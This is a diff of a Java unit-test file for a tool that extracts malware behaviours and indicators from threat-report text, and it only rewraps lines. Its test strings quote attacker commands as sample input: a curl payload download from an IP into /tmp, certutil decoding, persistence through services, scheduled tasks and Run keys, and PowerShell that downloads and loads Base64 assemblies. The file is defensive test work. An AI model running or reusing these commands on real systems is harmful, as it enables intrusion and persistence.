@@ -17,7 +17,8 @@ class BehaviourKindsTest {
 
     @Test
     void continuedLinesAreOneCommand() {
-        String text = "The malware ran:\n\n```\nroot@web01:~# curl -s \\\n   -o /tmp/.x \\\n   http://45.77.1.9/x\nPS C:\\Users\\bob> certutil.exe -decode a.txt a.exe\n```\n";
+        String text =
+                "The malware ran:\n\n```\nroot@web01:~# curl -s \\\n   -o /tmp/.x \\\n   http://45.77.1.9/x\nPS C:\\Users\\bob> certutil.exe -decode a.txt a.exe\n```\n";
         assertThat(commands(text))
                 .containsExactly("curl -s -o /tmp/.x http://45.77.1.9/x", "certutil.exe -decode a.txt a.exe");
     }
@@ -26,15 +27,19 @@ class BehaviourKindsTest {
     void commandsInProseEndWhereProseGoesOn() {
         assertThat(commands("The actor executed cmd.exe /c whoami /all and left the malware there."))
                 .containsExactly("cmd.exe /c whoami /all");
-        assertThat(commands("The malware uses rundll32.exe to load its payload.")).isEmpty();
+        assertThat(commands("The malware uses rundll32.exe to load its payload."))
+                .isEmpty();
     }
 
     @Test
     void commandsSayWhatTheyMake() {
-        Extraction read = Extraction.of("The actor ran `sc.exe create WinHelpSvc binPath= C:\\ProgramData\\w.exe`, "
-                + "`schtasks /create /sc minute /tn \"Update Check\" /tr C:\\ProgramData\\w.exe` and "
-                + "`reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d C:\\ProgramData\\w.exe /f`.");
-        assertThat(read.behaviours(Behaviour.Service.class)).extracting(Behaviour.Service::name).contains("WinHelpSvc");
+        Extraction read = Extraction.of(
+                "The actor ran `sc.exe create WinHelpSvc binPath= C:\\ProgramData\\w.exe`, "
+                        + "`schtasks /create /sc minute /tn \"Update Check\" /tr C:\\ProgramData\\w.exe` and "
+                        + "`reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d C:\\ProgramData\\w.exe /f`.");
+        assertThat(read.behaviours(Behaviour.Service.class))
+                .extracting(Behaviour.Service::name)
+                .contains("WinHelpSvc");
         assertThat(read.behaviours(Behaviour.ScheduledTask.class))
                 .extracting(Behaviour.ScheduledTask::name)
                 .contains("Update Check");
@@ -47,7 +52,8 @@ class BehaviourKindsTest {
 
     @Test
     void processTreesPairEachProgramWithTheOneAbove() {
-        String text = "The malware's tree:\n\n```\nwinword.exe\n  \u2514\u2500 cmd.exe /c x\n      \u2514\u2500 powershell.exe -enc QQ\n  \u2514\u2500 splwow64.exe 8192\n```\n";
+        String text =
+                "The malware's tree:\n\n```\nwinword.exe\n  \u2514\u2500 cmd.exe /c x\n      \u2514\u2500 powershell.exe -enc QQ\n  \u2514\u2500 splwow64.exe 8192\n```\n";
         assertThat(Extraction.of(text).behaviours(Behaviour.ParentChild.class))
                 .extracting(p -> p.parent() + ">" + p.child())
                 .contains("winword.exe>cmd.exe", "cmd.exe>powershell.exe", "winword.exe>splwow64.exe");
@@ -84,11 +90,13 @@ class BehaviourKindsTest {
     void valuesBelowTheirKeyBelongToIt() {
         Extraction read = Extraction.of(
                 "The malware sets\n\n```\n[HKEY_CURRENT_USER\\Software\\Acme]\n\"Loader\" = \"C:\\ProgramData\\q.dll\"\n```\n");
-        assertThat(read.behaviours(Behaviour.RegistryValue.class)).singleElement().satisfies(value -> {
-            assertThat(value.path()).isEqualTo("HKEY_CURRENT_USER\\Software\\Acme\\Loader");
-            assertThat(value.data()).isEqualTo(Optional.of("C:\\ProgramData\\q.dll"));
-            assertThat(value.persistence()).isFalse();
-        });
+        assertThat(read.behaviours(Behaviour.RegistryValue.class))
+                .singleElement()
+                .satisfies(value -> {
+                    assertThat(value.path()).isEqualTo("HKEY_CURRENT_USER\\Software\\Acme\\Loader");
+                    assertThat(value.data()).isEqualTo(Optional.of("C:\\ProgramData\\q.dll"));
+                    assertThat(value.persistence()).isFalse();
+                });
     }
 
     @ParameterizedTest
@@ -114,8 +122,9 @@ class BehaviourKindsTest {
 
     @Test
     void traffic() {
-        Extraction read = Extraction.of("The backdoor talks over TCP port 4444 and UDP/5353, then sends `POST /gate.php?id=1`.\n\n"
-                + "```\nUser-Agent: ZLoad/7 (x)\n```\n");
+        Extraction read = Extraction.of(
+                "The backdoor talks over TCP port 4444 and UDP/5353, then sends `POST /gate.php?id=1`.\n\n"
+                        + "```\nUser-Agent: ZLoad/7 (x)\n```\n");
         assertThat(read.behaviours(Behaviour.Network.class))
                 .extracting(Behaviour.Network::value)
                 .containsExactly("tcp/4444", "udp/5353", "/gate.php?id=1");
@@ -152,8 +161,8 @@ class BehaviourKindsTest {
                 + "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($d))\n```\n";
         assertThat(Extraction.of(text).behaviours(Behaviour.Script.class))
                 .singleElement()
-                .satisfies(s -> assertThat(s.fragments())
-                        .contains("New-Object Net.WebClient", "[Convert]::FromBase64String"));
+                .satisfies(s ->
+                        assertThat(s.fragments()).contains("New-Object Net.WebClient", "[Convert]::FromBase64String"));
     }
 
     @ParameterizedTest
@@ -165,18 +174,23 @@ class BehaviourKindsTest {
                 "CVE-2017-11882 is old.|||"
             })
     void vulnerabilities(String text, String product, String affected, String fixed) {
-        assertThat(Extraction.of(text).evidence().vulnerabilities()).singleElement().satisfies(v -> {
-            assertThat(v.product()).isEqualTo(Optional.ofNullable(product));
-            assertThat(v.affected()).isEqualTo(Optional.ofNullable(affected));
-            assertThat(v.fixed()).isEqualTo(Optional.ofNullable(fixed));
-        });
+        assertThat(Extraction.of(text).evidence().vulnerabilities())
+                .singleElement()
+                .satisfies(v -> {
+                    assertThat(v.product()).isEqualTo(Optional.ofNullable(product));
+                    assertThat(v.affected()).isEqualTo(Optional.ofNullable(affected));
+                    assertThat(v.fixed()).isEqualTo(Optional.ofNullable(fixed));
+                });
     }
 
     @Test
     void namesWithoutQuotationMarksAndBeforeTheirWord() {
-        Extraction read = Extraction.of("The malware makes a service named WinHelpSvc64, the \"Update Check 9\" scheduled task "
-                + "and a task named *AcmeUpdates*, with a hardcoded mutex value {99ed2fc7-0fdc-42ef-8b82-78d1c7c554e3}.");
-        assertThat(read.behaviours(Behaviour.Service.class)).extracting(Behaviour.Service::name).containsExactly("WinHelpSvc64");
+        Extraction read = Extraction.of(
+                "The malware makes a service named WinHelpSvc64, the \"Update Check 9\" scheduled task "
+                        + "and a task named *AcmeUpdates*, with a hardcoded mutex value {99ed2fc7-0fdc-42ef-8b82-78d1c7c554e3}.");
+        assertThat(read.behaviours(Behaviour.Service.class))
+                .extracting(Behaviour.Service::name)
+                .containsExactly("WinHelpSvc64");
         assertThat(read.behaviours(Behaviour.ScheduledTask.class))
                 .extracting(Behaviour.ScheduledTask::name)
                 .containsExactly("Update Check 9", "AcmeUpdates");
